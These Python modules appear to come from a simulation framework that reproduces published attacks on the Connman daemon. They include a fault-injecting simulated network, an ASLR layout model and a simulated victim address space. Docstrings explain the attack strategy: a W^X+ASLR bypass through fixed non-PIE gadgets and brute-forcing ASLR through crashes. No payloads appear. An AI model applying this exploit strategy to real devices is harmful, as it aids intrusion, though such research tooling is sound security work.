from .faults import DELIVERED, DUPLICATE, ChaosSchedule, FaultPolicy
from .host import Host
from .packets import UdpDatagram

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector


class Network:
    """One LAN segment with a /24-ish address pool.

    When ``faults`` is set (a :class:`FaultPolicy` or a
    :class:`ChaosSchedule`), every delivery leg — request and reply —
    crosses the fault fabric; with the default ``None`` the fabric is the
    original perfect synchronous wire.

    The traffic log records **what actually crossed the wire**: the
    post-fault bytes of every delivered leg, duplicates included.  A leg
    the fabric drops never reaches the destination segment, so it does
    not appear in ``traffic`` — the fault trace (and the ``observer``'s
    event bus) is where losses are accounted.
    """

    def __init__(self, name: str, subnet_prefix: str = "192.168.1",
                 faults: Optional[Union[FaultPolicy, ChaosSchedule]] = None,
                 observer: Optional["Collector"] = None):
        self.name = name
        self.subnet_prefix = subnet_prefix
        self.faults = faults
        self.observer = observer
        self._hosts: Dict[str, Host] = {}
        self._next_host_number = 100
        self.traffic: List[UdpDatagram] = []

    # -- membership ---------------------------------------------------------------

    def allocate_ip(self) -> str:
        while True:
            candidate = f"{self.subnet_prefix}.{self._next_host_number}"
            self._next_host_number += 1
            if candidate not in self._hosts:
                return candidate

    def attach(self, host: Host, ip: Optional[str] = None) -> str:
        if host.network is not None:
            host.network.detach(host)
        address = ip or self.allocate_ip()
        if address in self._hosts:
            raise ValueError(f"{self.name}: address {address} already in use")
        self._hosts[address] = host
        host.network = self
        host.ip = address
        return address

    def detach(self, host: Host) -> None:
        if host.ip in self._hosts and self._hosts[host.ip] is host:
            del self._hosts[host.ip]
        host.network = None
        host.ip = None

    def host_by_ip(self, ip: str) -> Optional[Host]:
        return self._hosts.get(ip)

    def hosts(self) -> List[Host]:
        return list(self._hosts.values())

    # -- delivery ---------------------------------------------------------------------

    def _log_leg(self, datagram: UdpDatagram, kind: str, fault: str,
                 duplicate: bool = False) -> None:
        self.traffic.append(datagram)
        if self.observer is not None:
            self.observer.emit(
                "net", kind,
                src=f"{datagram.src_ip}:{datagram.src_port}",
                dst=f"{datagram.dst_ip}:{datagram.dst_port}",
                bytes=len(datagram.payload),
                fault=fault,
                duplicate=duplicate,
                network=self.name,
            )
            self.observer.inc("net.packets")

    def deliver(self, datagram: UdpDatagram) -> Optional[bytes]:
        """Route one datagram to its destination service, synchronously.

        Every *delivered* leg — request, duplicate copy, and each
        reply — lands in the traffic log with its **post-fault** payload,
        so a tap sees exactly the bytes the receiving handler saw.  The
        duplicate copy's reply crosses the fault fabric like any other
        leg and is logged; the first answer still wins the socket, so
        only the first reply is returned to the sender.

        When the network is observed, the whole traversal runs inside a
        ``net.deliver`` span whose id is stamped into the datagram's
        metadata (:attr:`UdpDatagram.span_id`) — the trace context every
        downstream layer (daemon, emulator, crash forensics) continues.
        """
        if self.observer is None:
            return self._deliver(datagram)
        tracer = self.observer.tracer
        span = tracer.start(
            "net.deliver",
            src=f"{datagram.src_ip}:{datagram.src_port}",
            dst=f"{datagram.dst_ip}:{datagram.dst_port}",
            bytes=len(datagram.payload),
            network=self.name,
        )
        try:
            return self._deliver(replace(datagram, span_id=span.span_id), span)
        finally:
            tracer.end(span)

    def _deliver(self, datagram: UdpDatagram, span=None) -> Optional[bytes]:
        from ..obs.spans import snapshot_payload

        payload = datagram.payload
        duplicated = False
        fault_kind = DELIVERED
        if self.faults is not None:
            payload, record = self.faults.process(
                payload, src=datagram.src_ip, dst=datagram.dst_ip
            )
            if payload is None:
                if span is not None:
                    span.attrs.update(fault=record.kind, outcome="dropped")
                if self.observer is not None:
                    self.observer.emit(
                        "net", "packet.drop",
                        src=f"{datagram.src_ip}:{datagram.src_port}",
                        dst=f"{datagram.dst_ip}:{datagram.dst_port}",
                        bytes=len(datagram.payload),
                        fault=record.kind,
                        network=self.name,
                    )
                return None
            duplicated = record.kind == DUPLICATE
            fault_kind = record.kind
        if span is not None:
            # Post-fault bytes: what the receiving handler actually saw.
            span.attrs["payload"] = snapshot_payload(payload)
            if fault_kind != DELIVERED:
                span.attrs["fault"] = fault_kind
        delivered = (datagram if payload == datagram.payload
                     else replace(datagram, payload=payload))
        self._log_leg(delivered, "packet.tx", fault_kind)
        destination = self.host_by_ip(datagram.dst_ip)
        handler = (destination.service_on(datagram.dst_port)
                   if destination is not None else None)
        if handler is None:
            return None
        response = handler(payload, delivered)
        if self.observer is not None:
            self.observer.emit("net", "packet.rx",
                               dst=f"{delivered.dst_ip}:{delivered.dst_port}",
                               bytes=len(payload), network=self.name)
        first_reply = self._deliver_reply(delivered, response)
        if duplicated:
            # The copy arrives too: its own wire entry, its own handler
            # invocation, its own (fault-processed, logged) reply — but
            # the first answer already won the socket.
            self._log_leg(delivered, "packet.dup", DUPLICATE, duplicate=True)
            duplicate_response = handler(payload, delivered)
            self._deliver_reply(delivered, duplicate_response, duplicate=True)
        return first_reply

    def _deliver_reply(self, request: UdpDatagram, response: Optional[bytes],
                       duplicate: bool = False) -> Optional[bytes]:
        """Carry one reply leg back across the fabric; log what survives."""
        if response is None:
            return None
        fault_kind = DELIVERED
        if self.faults is not None:
            response, record = self.faults.process(
                response, src=request.dst_ip, dst=request.src_ip
            )
            if response is None:
                if self.observer is not None:
                    self.observer.emit(
                        "net", "packet.drop",
                        src=f"{request.dst_ip}:{request.dst_port}",
                        dst=f"{request.src_ip}:{request.src_port}",
                        fault=record.kind,
                        duplicate=duplicate,
                        network=self.name,
                    )
                return None
            fault_kind = record.kind
        reply = UdpDatagram(
            src_ip=request.dst_ip,
            src_port=request.dst_port,
            dst_ip=request.src_ip,
            dst_port=request.src_port,
            payload=response,
        )
        self._log_leg(reply, "packet.tx", fault_kind, duplicate=duplicate)
        return response

    def describe(self) -> str:
        members = ", ".join(f"{h.name}={ip}" for ip, h in sorted(self._hosts.items()))
        return f"{self.name} ({self.subnet_prefix}.0/24): {members}"
