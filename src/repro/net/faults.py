"""Deterministic fault injection for the simulated fabric.

The paper's attacks live on failure behavior: missed ASLR guesses crash
the daemon, rogue-AP roaming exists because the victim silently fails over
when its network degrades, and the brute-force economics depend on how
fast init restarts the service.  This module makes the simulated network
imperfect on purpose — losing, delaying, duplicating, corrupting, and
truncating datagrams — while staying fully deterministic: every decision
flows from one seeded RNG, so two runs with the same seed inject the
exact same fault trace.

:class:`FaultPolicy` holds the base rates plus per-link and per-host
overrides and partitions; :class:`ChaosSchedule` scripts time windows of
different policies over a delivery-tick counter.  Both expose the same
``process(payload, src=..., dst=...)`` entry point that
:meth:`repro.net.network.Network.deliver` and :func:`faulty_transport`
consult.
"""

from __future__ import annotations

import random
from dataclasses import dataclass, field, replace
from typing import TYPE_CHECKING, Callable, Dict, List, Optional, Set, Tuple

if TYPE_CHECKING:  # pragma: no cover - import cycle guard
    from ..obs import Collector

#: Fault kinds, in the order the single uniform draw is partitioned.
DROP = "drop"
CORRUPT = "corrupt"
TRUNCATE = "truncate"
DUPLICATE = "duplicate"
DELAY = "delay"
PARTITION = "partition"
DELIVERED = "delivered"


@dataclass(frozen=True)
class FaultRates:
    """Per-kind probabilities, each an independent slice of one draw."""

    drop: float = 0.0
    corrupt: float = 0.0
    truncate: float = 0.0
    duplicate: float = 0.0
    delay: float = 0.0

    def total(self) -> float:
        return self.drop + self.corrupt + self.truncate + self.duplicate + self.delay


@dataclass(frozen=True)
class FaultRecord:
    """One injected fault (clean deliveries are only counted, not logged)."""

    kind: str
    link: str
    detail: str = ""
    latency_ms: float = 0.0


_CLEAN = FaultRecord(kind=DELIVERED, link="")


class FaultPolicy:
    """Seeded fault decisions: same seed, same traffic — same fault trace."""

    def __init__(
        self,
        seed: int = 0,
        *,
        drop: float = 0.0,
        corrupt: float = 0.0,
        truncate: float = 0.0,
        duplicate: float = 0.0,
        delay: float = 0.0,
        delay_ms: Tuple[float, float] = (50.0, 400.0),
        observer: Optional["Collector"] = None,
    ):
        self.seed = seed
        self.observer = observer
        self.rng = random.Random(seed)
        self.base = FaultRates(drop=drop, corrupt=corrupt, truncate=truncate,
                               duplicate=duplicate, delay=delay)
        self.delay_ms = delay_ms
        self._link_rates: Dict[Tuple[str, str], FaultRates] = {}
        self._host_rates: Dict[str, FaultRates] = {}
        self._partitions: List[Tuple[Set[str], Set[str]]] = []
        self.decisions = 0
        self.trace: List[FaultRecord] = []

    # -- scoped overrides -------------------------------------------------------

    def set_link(self, src: str, dst: str, **rates) -> None:
        """Override rates for one directed link (wins over host and base)."""
        self._link_rates[(src, dst)] = replace(FaultRates(), **rates)

    def set_host(self, host: str, **rates) -> None:
        """Override rates for any traffic touching ``host`` (wins over base)."""
        self._host_rates[host] = replace(FaultRates(), **rates)

    def partition(self, group_a: Set[str], group_b: Set[str]) -> None:
        """Sever all traffic between the two host groups (both directions)."""
        self._partitions.append((set(group_a), set(group_b)))

    def heal_partitions(self) -> None:
        self._partitions.clear()

    def rates_for(self, src: str, dst: str) -> FaultRates:
        if (src, dst) in self._link_rates:
            return self._link_rates[(src, dst)]
        if src in self._host_rates:
            return self._host_rates[src]
        if dst in self._host_rates:
            return self._host_rates[dst]
        return self.base

    def _partitioned(self, src: str, dst: str) -> bool:
        for group_a, group_b in self._partitions:
            if (src in group_a and dst in group_b) or (src in group_b and dst in group_a):
                return True
        return False

    # -- the decision point -----------------------------------------------------

    def _record(self, record: FaultRecord) -> FaultRecord:
        """Log one injected fault to the trace and the observer (if any)."""
        self.trace.append(record)
        if self.observer is not None:
            self.observer.emit("fault", f"fault.{record.kind}",
                               link=record.link, detail=record.detail)
            self.observer.inc("faults.injected")
            self.observer.inc(f"faults.{record.kind}")
            if record.kind == DELAY:
                self.observer.observe("fault.latency_ms", record.latency_ms)
        return record

    def process(self, payload: bytes, *, src: str = "?", dst: str = "?"
                ) -> Tuple[Optional[bytes], FaultRecord]:
        """Decide one delivery's fate: (possibly mangled payload, record).

        Returns ``(None, record)`` when the datagram is lost outright.  A
        ``delay`` fault delivers the payload but stamps ``latency_ms`` —
        callers with a timeout treat excessive latency as a loss.
        """
        self.decisions += 1
        if self.observer is not None:
            self.observer.inc("faults.decisions")
        link = f"{src}->{dst}"
        if self._partitioned(src, dst):
            record = self._record(FaultRecord(kind=PARTITION, link=link,
                                              detail="partitioned"))
            return None, record
        rates = self.rates_for(src, dst)
        draw = self.rng.random()
        if draw < rates.drop:
            record = self._record(FaultRecord(kind=DROP, link=link))
            return None, record
        draw -= rates.drop
        if draw < rates.corrupt:
            mangled, detail = self._corrupt(payload)
            record = self._record(FaultRecord(kind=CORRUPT, link=link, detail=detail))
            return mangled, record
        draw -= rates.corrupt
        if draw < rates.truncate:
            cut = self.rng.randrange(len(payload)) if payload else 0
            record = self._record(FaultRecord(kind=TRUNCATE, link=link,
                                              detail=f"cut to {cut} bytes"))
            return payload[:cut], record
        draw -= rates.truncate
        if draw < rates.duplicate:
            record = self._record(FaultRecord(kind=DUPLICATE, link=link))
            return payload, record
        draw -= rates.duplicate
        if draw < rates.delay:
            latency = self.rng.uniform(*self.delay_ms)
            record = self._record(FaultRecord(kind=DELAY, link=link,
                                              latency_ms=latency,
                                              detail=f"{latency:.0f}ms"))
            return payload, record
        return payload, _CLEAN

    def _corrupt(self, payload: bytes) -> Tuple[bytes, str]:
        if not payload:
            return payload, "empty"
        mangled = bytearray(payload)
        flips = min(len(mangled), 1 + self.rng.randrange(3))
        positions = sorted(self.rng.randrange(len(mangled)) for _ in range(flips))
        for position in positions:
            mangled[position] ^= 1 << self.rng.randrange(8)
        return bytes(mangled), f"flipped bits at {positions}"

    def fault_count(self) -> int:
        return len(self.trace)

    def describe(self) -> str:
        kinds: Dict[str, int] = {}
        for record in self.trace:
            kinds[record.kind] = kinds.get(record.kind, 0) + 1
        summary = ", ".join(f"{kind}={count}" for kind, count in sorted(kinds.items()))
        return (f"FaultPolicy(seed={self.seed}): {self.decisions} deliveries, "
                f"{len(self.trace)} faults ({summary or 'none'})")


@dataclass
class FaultWindow:
    """One scripted window of policy, inclusive start / exclusive end tick."""

    start: int
    end: int
    policy: FaultPolicy

    def covers(self, tick: int) -> bool:
        return self.start <= tick < self.end


class ChaosSchedule:
    """Scripted fault windows over a delivery-tick counter.

    Each ``process`` call advances one tick and routes the datagram to the
    policy of the innermost (latest-added) active window, or to the base
    policy — or injects nothing when no window covers the tick and no base
    is set.  Exposes the same interface as :class:`FaultPolicy`, so a
    schedule can sit anywhere a policy can.
    """

    def __init__(self, base: Optional[FaultPolicy] = None):
        self.base = base
        self.windows: List[FaultWindow] = []
        self.tick = 0

    def add_window(self, start: int, end: int, policy: FaultPolicy) -> "ChaosSchedule":
        self.windows.append(FaultWindow(start=start, end=end, policy=policy))
        return self

    def policy_at(self, tick: int) -> Optional[FaultPolicy]:
        for window in reversed(self.windows):
            if window.covers(tick):
                return window.policy
        return self.base

    def process(self, payload: bytes, *, src: str = "?", dst: str = "?"
                ) -> Tuple[Optional[bytes], FaultRecord]:
        policy = self.policy_at(self.tick)
        self.tick += 1
        if policy is None:
            return payload, _CLEAN
        return policy.process(payload, src=src, dst=dst)

    @property
    def trace(self) -> List[FaultRecord]:
        merged = [] if self.base is None else list(self.base.trace)
        for window in self.windows:
            if window.policy is not self.base:
                merged += window.policy.trace
        return merged

    def describe(self) -> str:
        spans = ", ".join(f"[{w.start},{w.end})" for w in self.windows)
        return f"ChaosSchedule(tick={self.tick}, windows={spans or 'none'})"


def faulty_transport(
    upstream: Callable[[bytes], Optional[bytes]],
    policy: FaultPolicy,
    *,
    src: str = "client",
    dst: str = "upstream",
    timeout_ms: Optional[float] = None,
) -> Callable[[bytes], Optional[bytes]]:
    """Wrap a request/reply transport so both legs cross the fault fabric.

    A dropped (or partitioned) leg returns ``None``; a delayed leg whose
    latency exceeds ``timeout_ms`` is indistinguishable from a loss to the
    caller, which is exactly how a resolver experiences it.
    """

    def transport(packet: bytes) -> Optional[bytes]:
        sent, record = policy.process(packet, src=src, dst=dst)
        if sent is None:
            return None
        if timeout_ms is not None and record.latency_ms > timeout_ms:
            return None
        reply = upstream(sent)
        if reply is None:
            return None
        received, record = policy.process(reply, src=dst, dst=src)
        if received is None:
            return None
        if timeout_ms is not None and record.latency_ms > timeout_ms:
            return None
        return received

    return transport
