"""Per-architecture address-space layouts and the ASLR model.

The simulated Connman binary is a classic non-PIE 32-bit ELF, so Address
Space Layout Randomization affects only the *dynamic* regions — the libc
mapping, the stack and the heap.  ``.text``/``.plt``/``.data``/``.bss`` stay
at their link-time addresses.  This asymmetry is the load-bearing fact behind
the paper's W^X+ASLR bypass: gadgets and PLT entries in ``.text`` and the
scratch space in ``.bss`` remain at known addresses while libc moves.

Default (un-randomized) bases are chosen to resemble the paper's listings:
ARM ``.text`` near ``0x00010000`` (gadget ``0x000112b1``), libc near
``0x76d00000`` (``/bin/sh`` at ``0x76d853e4``), stack near ``0x7eff0000``
(placeholder ``0x7effd2c4``).
"""

from __future__ import annotations

import random
from dataclasses import dataclass, replace

PAGE_SIZE = 0x1000
PAGE_MASK = ~(PAGE_SIZE - 1) & 0xFFFFFFFF


def page_align_down(address: int) -> int:
    return address & PAGE_MASK


def page_align_up(address: int) -> int:
    return (address + PAGE_SIZE - 1) & PAGE_MASK


@dataclass(frozen=True)
class MemoryLayout:
    """Concrete base addresses for one process instantiation."""

    arch: str
    text_base: int
    libc_base: int
    heap_base: int
    heap_size: int
    stack_top: int
    stack_size: int

    @property
    def stack_base(self) -> int:
        """Lowest mapped stack address."""
        return self.stack_top - self.stack_size

    def describe(self) -> str:
        return (
            f"{self.arch}: text={self.text_base:#010x} libc={self.libc_base:#010x} "
            f"heap={self.heap_base:#010x} stack={self.stack_base:#010x}-{self.stack_top:#010x}"
        )


#: Link-time layouts, ASLR disabled — fully deterministic.
X86_LAYOUT = MemoryLayout(
    arch="x86",
    text_base=0x08048000,
    libc_base=0xB7E00000,
    heap_base=0x08100000,
    heap_size=0x40000,
    stack_top=0xBFFFF000,
    stack_size=0x10000,
)

ARM_LAYOUT = MemoryLayout(
    arch="arm",
    text_base=0x00010000,
    libc_base=0x76D00000,
    heap_base=0x00200000,
    heap_size=0x40000,
    stack_top=0x7EFFE000,
    stack_size=0x10000,
)

BASE_LAYOUTS = {"x86": X86_LAYOUT, "arm": ARM_LAYOUT}

#: Randomization spans mirror 32-bit Linux: mmap (libc) gets ~8 bits of
#: page-granular entropy here, the stack ~11 bits of 16-byte-granular entropy.
LIBC_SLIDE_PAGES = 256
STACK_SLIDE_UNITS = 2048
STACK_SLIDE_GRANULE = 16


@dataclass(frozen=True)
class AslrPolicy:
    """Whether and how dynamic regions are randomized at process start."""

    enabled: bool
    libc_slide_pages: int = LIBC_SLIDE_PAGES
    stack_slide_units: int = STACK_SLIDE_UNITS

    def instantiate(self, arch: str, rng: random.Random) -> MemoryLayout:
        """Produce the concrete layout for one exec of the daemon."""
        base = BASE_LAYOUTS[arch]
        if not self.enabled:
            return base
        libc_slide = rng.randrange(self.libc_slide_pages) * PAGE_SIZE
        stack_slide = rng.randrange(self.stack_slide_units) * STACK_SLIDE_GRANULE
        heap_slide = rng.randrange(64) * PAGE_SIZE
        return replace(
            base,
            libc_base=base.libc_base - libc_slide,
            stack_top=base.stack_top - page_align_down(stack_slide) - (stack_slide % PAGE_SIZE),
            heap_base=base.heap_base + heap_slide,
        )


def layout_for(arch: str, *, aslr: bool, rng: random.Random) -> MemoryLayout:
    """Convenience wrapper used by the loader."""
    return AslrPolicy(enabled=aslr).instantiate(arch, rng)
