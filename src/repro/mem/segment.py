"""A contiguous mapped region of the simulated address space."""

from __future__ import annotations

from .errors import AccessViolation, WxViolation
from .perms import Perm


class Segment:
    """A named, permissioned, contiguous byte range.

    Mirrors one line of ``/proc/<pid>/maps``: a base address, a size, R/W/X
    permissions and backing bytes.  All accesses are bounds-checked by the
    owning :class:`~repro.mem.space.AddressSpace`; the segment enforces only
    permissions.
    """

    def __init__(self, name: str, base: int, size: int, perm: Perm):
        if size <= 0:
            raise ValueError(f"segment {name!r} must have positive size, got {size}")
        if base < 0 or base + size > 2**32:
            raise ValueError(
                f"segment {name!r} [{base:#x}, {base + size:#x}) outside 32-bit space"
            )
        self.name = name
        self.base = base
        self.size = size
        self.perm = perm
        self.data = bytearray(size)

    @property
    def end(self) -> int:
        """One past the last mapped address."""
        return self.base + self.size

    def contains(self, address: int) -> bool:
        return self.base <= address < self.end

    def overlaps(self, other: "Segment") -> bool:
        return self.base < other.end and other.base < self.end

    # -- raw access (permission-checked) ------------------------------------

    def read(self, address: int, length: int, *, check: bool = True) -> bytes:
        if check and Perm.R not in self.perm:
            raise AccessViolation(address, "R", f"read from non-readable segment {self.name!r}")
        offset = address - self.base
        return bytes(self.data[offset : offset + length])

    def write(self, address: int, payload: bytes, *, check: bool = True) -> None:
        if check and Perm.W not in self.perm:
            raise AccessViolation(address, "W", f"write to non-writable segment {self.name!r}")
        offset = address - self.base
        self.data[offset : offset + len(payload)] = payload

    def fetch(self, address: int, length: int) -> bytes:
        """Instruction fetch — requires X, raising :class:`WxViolation` otherwise."""
        if Perm.X not in self.perm:
            raise WxViolation(address, f"fetch from non-executable segment {self.name!r}")
        offset = address - self.base
        return bytes(self.data[offset : offset + length])

    def describe(self) -> str:
        return f"{self.base:08x}-{self.end:08x} {self.perm.describe()} {self.name}"

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"Segment({self.describe()})"
