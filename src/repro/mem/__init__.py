"""Simulated 32-bit process memory: segments, permissions, layouts, ASLR."""

from .errors import (
    AccessViolation,
    BusError,
    MemoryFault,
    SegmentationFault,
    StackOverflowFault,
    UnmappedAddressError,
    WxViolation,
)
from .layout import (
    ARM_LAYOUT,
    BASE_LAYOUTS,
    PAGE_SIZE,
    X86_LAYOUT,
    AslrPolicy,
    MemoryLayout,
    layout_for,
    page_align_down,
    page_align_up,
)
from .perms import Perm
from .segment import Segment
from .space import AddressSpace

__all__ = [
    "AccessViolation",
    "AddressSpace",
    "ARM_LAYOUT",
    "AslrPolicy",
    "BASE_LAYOUTS",
    "BusError",
    "layout_for",
    "MemoryFault",
    "MemoryLayout",
    "PAGE_SIZE",
    "page_align_down",
    "page_align_up",
    "Perm",
    "Segment",
    "SegmentationFault",
    "StackOverflowFault",
    "UnmappedAddressError",
    "WxViolation",
    "X86_LAYOUT",
]
