"""The simulated 32-bit address space of a victim process."""

from __future__ import annotations

import struct
from typing import Iterable, Iterator, List, Optional

from .errors import UnmappedAddressError
from .perms import Perm
from .segment import Segment

ADDRESS_MASK = 0xFFFFFFFF


class AddressSpace:
    """A flat 32-bit address space built from non-overlapping segments.

    This is the single source of truth for process memory: the Connman
    simulation writes its stack frames here, the CPU emulators fetch
    instructions from here, and libc stubs (``memcpy``) copy bytes here.
    Accesses that cross segment boundaries or touch unmapped addresses fault
    exactly like the real process would.
    """

    def __init__(self) -> None:
        self._segments: List[Segment] = []

    # -- mapping -------------------------------------------------------------

    def map(self, segment: Segment) -> Segment:
        """Map a segment, refusing overlaps."""
        for existing in self._segments:
            if existing.overlaps(segment):
                raise ValueError(
                    f"segment {segment.name!r} overlaps {existing.name!r} "
                    f"({existing.describe()})"
                )
        self._segments.append(segment)
        self._segments.sort(key=lambda seg: seg.base)
        return segment

    def map_new(self, name: str, base: int, size: int, perm: Perm) -> Segment:
        """Create and map a segment in one call."""
        return self.map(Segment(name, base, size, perm))

    def unmap(self, name: str) -> None:
        before = len(self._segments)
        self._segments = [seg for seg in self._segments if seg.name != name]
        if len(self._segments) == before:
            raise KeyError(f"no segment named {name!r}")

    def segments(self) -> Iterator[Segment]:
        return iter(self._segments)

    def segment(self, name: str) -> Segment:
        for seg in self._segments:
            if seg.name == name:
                return seg
        raise KeyError(f"no segment named {name!r}")

    def has_segment(self, name: str) -> bool:
        return any(seg.name == name for seg in self._segments)

    def segment_at(self, address: int) -> Segment:
        """Return the segment covering ``address`` or fault."""
        for seg in self._segments:
            if seg.contains(address):
                return seg
        raise UnmappedAddressError(address & ADDRESS_MASK)

    def is_mapped(self, address: int, length: int = 1) -> bool:
        """True if the whole ``[address, address+length)`` range is mapped."""
        try:
            self._resolve(address, length)
        except UnmappedAddressError:
            return False
        return True

    def _resolve(self, address: int, length: int) -> List[Segment]:
        """Return the segments covering a range, faulting on any gap."""
        if length <= 0:
            return []
        address &= ADDRESS_MASK
        covering: List[Segment] = []
        cursor = address
        end = address + length
        while cursor < end:
            seg = self.segment_at(cursor)
            covering.append(seg)
            cursor = seg.end
        return covering

    # -- byte access ----------------------------------------------------------

    def read(self, address: int, length: int, *, check: bool = True) -> bytes:
        """Read bytes, spanning segment boundaries if mappings are contiguous."""
        address &= ADDRESS_MASK
        chunks = []
        cursor = address
        remaining = length
        for seg in self._resolve(address, length):
            take = min(remaining, seg.end - cursor)
            chunks.append(seg.read(cursor, take, check=check))
            cursor += take
            remaining -= take
        return b"".join(chunks)

    def write(self, address: int, payload: bytes, *, check: bool = True) -> None:
        """Write bytes, spanning contiguous segments; faults on gaps/permissions."""
        address &= ADDRESS_MASK
        cursor = address
        offset = 0
        for seg in self._resolve(address, len(payload)):
            take = min(len(payload) - offset, seg.end - cursor)
            seg.write(cursor, payload[offset : offset + take], check=check)
            cursor += take
            offset += take

    def fetch(self, address: int, length: int) -> bytes:
        """Instruction fetch (X-checked) — the W^X enforcement point."""
        address &= ADDRESS_MASK
        chunks = []
        cursor = address
        remaining = length
        for seg in self._resolve(address, length):
            take = min(remaining, seg.end - cursor)
            chunks.append(seg.fetch(cursor, take))
            cursor += take
            remaining -= take
        return b"".join(chunks)

    # -- typed helpers ---------------------------------------------------------

    def read_u8(self, address: int) -> int:
        return self.read(address, 1)[0]

    def read_u16(self, address: int) -> int:
        return struct.unpack("<H", self.read(address, 2))[0]

    def read_u32(self, address: int) -> int:
        return struct.unpack("<I", self.read(address, 4))[0]

    def write_u8(self, address: int, value: int) -> None:
        self.write(address, bytes([value & 0xFF]))

    def write_u16(self, address: int, value: int) -> None:
        self.write(address, struct.pack("<H", value & 0xFFFF))

    def write_u32(self, address: int, value: int) -> None:
        self.write(address, struct.pack("<I", value & ADDRESS_MASK))

    def read_cstring(self, address: int, limit: int = 4096) -> bytes:
        """Read a NUL-terminated string (used by execve/system stubs)."""
        out = bytearray()
        cursor = address
        while len(out) < limit:
            byte = self.read_u8(cursor)
            if byte == 0:
                return bytes(out)
            out.append(byte)
            cursor += 1
        return bytes(out)

    def write_cstring(self, address: int, value: bytes) -> None:
        self.write(address, value + b"\x00")

    # -- search / introspection -------------------------------------------------

    def find(self, needle: bytes, *, segment_names: Optional[Iterable[str]] = None) -> List[int]:
        """Find every occurrence of ``needle`` (the ``-memstr`` primitive)."""
        wanted = set(segment_names) if segment_names is not None else None
        hits: List[int] = []
        for seg in self._segments:
            if wanted is not None and seg.name not in wanted:
                continue
            start = 0
            while True:
                index = seg.data.find(needle, start)
                if index < 0:
                    break
                hits.append(seg.base + index)
                start = index + 1
        return hits

    def maps(self) -> str:
        """Render the mapping table like ``/proc/<pid>/maps``."""
        return "\n".join(seg.describe() for seg in self._segments)

    def __repr__(self) -> str:  # pragma: no cover - debugging aid
        return f"AddressSpace({len(self._segments)} segments)"
