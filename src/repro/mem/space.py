"""The simulated 32-bit address space of a victim process."""

from __future__ import annotations

import struct
from bisect import bisect_right
from typing import Dict, Iterable, Iterator, List, Optional, Tuple

from .errors import UnmappedAddressError
from .perms import Perm
from .segment import Segment

ADDRESS_MASK = 0xFFFFFFFF

#: log2(PAGE_SIZE); page indices key the write-generation table consumed by
#: the decoded-instruction cache (:mod:`repro.cpu.cache`).
PAGE_SHIFT = 12

#: Safety valve: the address->segment memo resets past this many entries so
#: a pathological scan over the whole 32-bit space cannot hold memory.
_MEMO_LIMIT = 1 << 16


class AddressSpace:
    """A flat 32-bit address space built from non-overlapping segments.

    This is the single source of truth for process memory: the Connman
    simulation writes its stack frames here, the CPU emulators fetch
    instructions from here, and libc stubs (``memcpy``) copy bytes here.
    Accesses that cross segment boundaries or touch unmapped addresses fault
    exactly like the real process would.
    """

    def __init__(self) -> None:
        self._segments: List[Segment] = []
        #: Sorted segment bases, kept in lockstep with ``_segments`` for
        #: bisect-based resolution.
        self._bases: List[int] = []
        #: address -> segment memo for :meth:`segment_at`; cleared whenever
        #: the mapping table changes.
        self._lookup_memo: Dict[int, Segment] = {}
        #: Bumped on every map/unmap.  Consumers holding derived state (the
        #: decode cache, the lookup memo) treat an epoch change as a flush.
        self.mapping_epoch = 0
        #: page index -> write generation; bumped by :meth:`write` so cached
        #: decodes of self-modified code are detected and dropped.
        self._page_gens: Dict[int, int] = {}
        #: Optional :class:`~repro.obs.taint.ShadowMemory` attached by a
        #: taint engine.  When set, every :meth:`write` updates the shadow:
        #: the ``taint=`` per-byte labels when given, a *clear* of the
        #: covered range otherwise (untainted data scrubs stale labels).
        self.taint = None

    def _mappings_changed(self) -> None:
        self._bases = [seg.base for seg in self._segments]
        self._lookup_memo.clear()
        self.mapping_epoch += 1

    # -- mapping -------------------------------------------------------------

    def map(self, segment: Segment) -> Segment:
        """Map a segment, refusing overlaps."""
        for existing in self._segments:
            if existing.overlaps(segment):
                raise ValueError(
                    f"segment {segment.name!r} overlaps {existing.name!r} "
                    f"({existing.describe()})"
                )
        self._segments.append(segment)
        self._segments.sort(key=lambda seg: seg.base)
        self._mappings_changed()
        return segment

    def map_new(self, name: str, base: int, size: int, perm: Perm) -> Segment:
        """Create and map a segment in one call."""
        return self.map(Segment(name, base, size, perm))

    def unmap(self, name: str) -> None:
        """Unmap the segment named ``name``.

        Raises :class:`KeyError` when no segment matches, and refuses to
        guess when several segments share the name — callers that mapped
        duplicates must unmap by a disambiguated handle, not silently lose
        every mapping at once.
        """
        matches = [seg for seg in self._segments if seg.name == name]
        if not matches:
            raise KeyError(f"no segment named {name!r}")
        if len(matches) > 1:
            spans = ", ".join(seg.describe() for seg in matches)
            raise ValueError(
                f"segment name {name!r} is ambiguous ({len(matches)} mappings: {spans})"
            )
        self._segments.remove(matches[0])
        self._mappings_changed()

    def segments(self) -> Iterator[Segment]:
        return iter(self._segments)

    def segment(self, name: str) -> Segment:
        for seg in self._segments:
            if seg.name == name:
                return seg
        raise KeyError(f"no segment named {name!r}")

    def has_segment(self, name: str) -> bool:
        return any(seg.name == name for seg in self._segments)

    def segment_at(self, address: int) -> Segment:
        """Return the segment covering ``address`` or fault.

        Resolution is a bisect over the sorted base list plus a memo of
        previously resolved addresses (the emulator's fetch stream revisits
        the same handful of addresses millions of times); both are
        invalidated whenever the mapping table changes.
        """
        seg = self._lookup_memo.get(address)
        if seg is not None:
            return seg
        index = bisect_right(self._bases, address) - 1
        if index >= 0:
            seg = self._segments[index]
            if seg.contains(address):
                if len(self._lookup_memo) >= _MEMO_LIMIT:
                    self._lookup_memo.clear()
                self._lookup_memo[address] = seg
                return seg
        raise UnmappedAddressError(address & ADDRESS_MASK)

    def contiguous_span(self, address: int, limit: int) -> int:
        """Mapped bytes reachable from ``address`` without a gap, capped at ``limit``.

        Instruction fetches use this to size their decode window: an
        instruction may straddle two *adjacent* segments (e.g. two
        back-to-back executable mappings) but must never read across a hole.
        Faults when ``address`` itself is unmapped.
        """
        address &= ADDRESS_MASK
        seg = self.segment_at(address)
        span = seg.end - address
        while span < limit:
            try:
                seg = self.segment_at(seg.end)
            except UnmappedAddressError:
                break
            span += seg.size
        return min(span, limit)

    def page_generation(self, page: int) -> int:
        """Write generation of one page (``address >> PAGE_SHIFT``)."""
        return self._page_gens.get(page, 0)

    def page_generation_span(self, address: int, length: int) -> Tuple[Tuple[int, int], ...]:
        """Snapshot ``(page, generation)`` for every page a byte range spans.

        The validation stamp used by the decode and block caches: cheap
        (one dict probe per page, no segment resolution) and taken over the
        exact bytes a cached decode was derived from.
        """
        if length <= 0:
            length = 1
